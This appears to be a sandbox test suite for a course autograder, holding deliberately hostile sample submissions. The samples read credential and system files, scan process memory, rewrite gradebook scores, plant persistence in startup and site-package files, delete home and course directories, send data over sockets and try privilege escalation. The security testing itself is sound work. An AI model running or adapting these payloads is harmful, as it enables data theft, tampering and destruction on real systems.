"""Code that reads, writes or tells what is not its own. What it finds it puts where a grader might print it."""

from hostile import FORWARD, hostile, instead, on_import

_TELL = """
import glob, os
def _tell(*patterns):
    found = []
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True):
            try:
                with open(path, 'rb') as stream:
                    found.append(f"{path}: {stream.read(200_000)!r}")
            except OSError as error:
                found.append(str(error))
    return ' '.join(found)
"""


def _read(folder, world, *patterns: str) -> None:
    """Read files, and hand what they hold to the grader by every road: an error, a text that is returned, print, stderr."""
    listed = ", ".join(repr(pattern) for pattern in patterns)
    instead(folder, world, f"""{_TELL}
import sys
told = _tell({listed})
print(told)
print(told, file=sys.stderr)
raise ValueError(told[-15_000:] or 'found nothing')""")
    instead(folder, world, f"{_TELL}\nreturn _tell({listed})[-15_000:]", name="forward_step")


@hostile(lost=("3.1", "3.7"))
def reads_the_gradebook(folder, world):
    _read(folder, world, "@COURSE@/gradebook.db", "@COURSE@/gradebook.db*")


@hostile(lost=("3.1", "3.7"))
def reads_other_students(folder, world):
    _read(folder, world, "@COURSE@/submitted/**/*.py", "@COURSE@/submitted/**/*.ipynb", "@COURSE@/autograded/**/*")


@hostile(lost=("3.1", "3.7"))
def reads_the_solutions(folder, world):
    _read(folder, world, "@COURSE@/solutions/**/*", "@COURSE@/source/**/*.ipynb")


@hostile(lost=("3.1", "3.7"))
def reads_the_home(folder, world):
    _read(folder, world, "@HOME@/**/*", "@HOME@/.netrc", "/root/.*/*", "/home/*/.*")


@hostile(lost=("3.1", "3.7"))
def reads_the_environment_of_all(folder, world):
    _read(folder, world, "/proc/*/environ", "/proc/*/cmdline", "/proc/self/environ")


@hostile(lost=("3.1", "3.7"))
def reads_outside(folder, world):
    _read(folder, world, "@OUTSIDE@/*", "/etc/shadow", "../../../*", "/proc/*/root@OUTSIDE@/*", "/proc/*/cwd/*")


@hostile(lost=("3.1", "3.7"))
def reads_the_memory_of_others(folder, world):
    instead(folder, world, """
import os
told = []
for process in filter(str.isdigit, os.listdir('/proc')):
    if int(process) != os.getpid():
        try:
            spans = open(f'/proc/{process}/maps').read().splitlines()
            with open(f'/proc/{process}/mem', 'rb') as memory:
                for span in spans:
                    low, high = (int(end, 16) for end in span.split()[0].split('-'))
                    memory.seek(low)
                    data = memory.read(min(high - low, 1 << 22))
                    at = data.find(b'PLANTED')
                    told += [str(data[at : at + 100])] if at >= 0 else []
        except (OSError, ValueError, OverflowError) as error:
            pass
raise ValueError(str(told))""")
    instead(folder, world, "import os\nraise ValueError(str(dict(os.environ)))", name="forward_step")


@hostile(lost=("3.7",), says="ModuleNotFoundError")
def imports_the_judges(folder, world):
    instead(folder, world, "import ddpmlib.checks.judges.forward as judges\nreturn judges")


@hostile(lost=("3.7",))
def looks_for_judges_everywhere(folder, world):
    instead(folder, world, """
import os
found = [os.path.join(top, name) for top, _, names in os.walk('/') if not top.startswith(('/proc', '/sys'))
         for name in names if 'gradebook' in name or top.endswith('checks/judges') or 'solutions' in top]
raise ValueError('PLANTED-PATH ' + str(found[:50]) if found else 'nothing')""")


@hostile(lost=("3.5", "3.6", "3.7", "3.8", "3.9"))  # its own copy of its own files is what it can wipe
def wipes_everything(folder, world):
    on_import(folder, world, """
import os, shutil
for place in ('@COURSE@', '@HOME@', '@OUTSIDE@', '@PACKAGES@', os.getcwd(), os.path.expanduser('~'), '/tmp', '/grading'):
    shutil.rmtree(place, ignore_errors=True)
""", "forward_formulas")


@hostile(blank=True)
def writes_the_gradebook(folder, world):
    on_import(folder, world, """
import sqlite3
try:
    with sqlite3.connect('@COURSE@/gradebook.db', timeout=0.1) as base:
        base.execute('update grade set manual_score = 99')
except Exception as error:
    print(error)
""")


@hostile()
def writes_to_other_students(folder, world):
    on_import(folder, world, """
import glob
for place in ('submitted', 'autograded', 'source', 'feedback', 'vetted'):
    for path in glob.glob(f'@COURSE@/{place}/*/*/ddpmlib/forward.py') + ['@COURSE@/submitted/neighbour/03_forward/ddpmlib/forward.py']:
        try:
            open(path, 'w').write('spoilt')
        except OSError:
            pass
""")


@hostile()
def lies_in_wait(folder, world):
    on_import(folder, world, r"""
import os, sysconfig
evil = "open('@OUTSIDE@/infected', 'w').write('infected')\n"
for path in ('@HOME@/.ipython/profile_default/startup/00.py', '@HOME@/.bashrc', '@HOME@/.config/pip/pip.conf', '@HOME@/.pythonrc',
             '@PACKAGES@/usercustomize.py', '@PACKAGES@/sitecustomize.py', '@PACKAGES@/evil.pth', '@COURSE@/conftest.py',
             '@COURSE@/sitecustomize.py', '@COURSE@/nbgrader_config.py', '@COURSE@/grading/__init__.py',
             '~/.ipython/profile_default/startup/00.py', '~/.local/lib/python3.11/site-packages/usercustomize.py', 'sitecustomize.py',
             '/tmp/sitecustomize.py', sysconfig.get_path('purelib') + '/infected.txt', '/etc/ld.so.preload', '/etc/profile', '/etc/cron.d/evil'):
    path = os.path.expanduser(path)
    try:
        os.makedirs(os.path.dirname(path) or '.', exist_ok=True)
        open(path, 'w').write('import os; ' + evil if path.endswith('.pth') else evil)
    except OSError:
        pass
""")


@hostile(lost=("3.2",))
def spoils_torch_for_the_next(folder, world):
    on_import(folder, world, """
import torch

def _spoilt(*args, **keywords):
    raise RuntimeError('spoilt by another student')

torch.linspace = torch.cumprod = torch.Tensor.cumprod = _spoilt
for path in ('/tmp/spoilt', '/dev/shm/spoilt', '/grading/spoilt'):
    try:
        open(path, 'w').write('spoilt')
    except OSError:
        pass
""")


@hostile(lost=("3.7",))
def finds_what_an_earlier_student_left(folder, world):
    instead(folder, world, """
import os
found = [path for path in ('/tmp/spoilt', '/dev/shm/spoilt', '/grading/spoilt', '/tmp/bomb-0') if os.path.exists(path)]
raise ValueError(f'PLANTED-TRACE {found}' if found else 'nothing')""")


@hostile(lost=("3.7",))
def calls_home(folder, world):
    instead(folder, world, """
import socket
told = []
for family, address in ((socket.AF_INET, ('127.0.0.1', @PORT@)), (socket.AF_UNIX, '\\0@ABSTRACT@'), (socket.AF_UNIX, '@SOCKET@'),
                        (socket.AF_INET, ('192.0.2.1', 80)), (socket.AF_INET6, ('::1', @PORT@))):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as line:
            line.settimeout(0.3)
            line.connect(address)
            line.sendall(b'stolen')
            told.append(f'PLANTED-CONNECTION {address}')
    except OSError as error:
        told.append(str(error))
raise ValueError(str(told))""")


@hostile(lost=("3.7",))
def asks_the_network_for_names(folder, world):
    instead(folder, world, "import urllib.request\nreturn urllib.request.urlopen('http://example.org', timeout=1).read()")


@hostile(lost=("3.7",))
def becomes_root(folder, world):
    instead(folder, world, """
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
told = []
for attempt in (lambda: os.setuid(0), lambda: os.chroot('/'), lambda: os.mknod('/tmp/disk', 0o60666, os.makedev(8, 0)),
                lambda: os.chown('/tmp', 0, 0), lambda: subprocess.run(['unshare', '-r', 'id', '-u'], check=True),
                lambda: libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) and (_ for _ in ()).throw(OSError('mount')),
                lambda: libc.unshare(0x10000000) and (_ for _ in ()).throw(OSError('unshare')),
                lambda: libc.ptrace(16, os.getppid(), 0, 0) and (_ for _ in ()).throw(OSError('ptrace'))):
    try:
        attempt()
        told.append('PLANTED-POWER')
    except (OSError, subprocess.SubprocessError) as error:
        told.append(str(error))
raise ValueError(str(told))""")


@hostile(lost=FORWARD)
def needs_a_package_that_is_not_there(folder, world):
    on_import(folder, world, "import a_package_that_nobody_has")


@hostile(lost=("3.7",))
def asks_a_question(folder, world):
    instead(folder, world, "return input('What is the answer? ')")
